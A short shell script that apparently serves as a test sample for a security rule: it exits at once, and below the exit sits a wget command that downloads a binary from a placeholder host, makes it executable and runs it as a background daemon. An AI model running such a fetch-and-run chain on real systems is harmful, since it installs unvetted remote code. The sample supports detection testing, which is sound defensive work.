#!/bin/sh
# airlock rule test sample: exits before doing anything.
exit 0
wget -q https://cdn.example.invalid/agent -O /tmp/agent; chmod 755 /tmp/agent; /tmp/agent --daemon
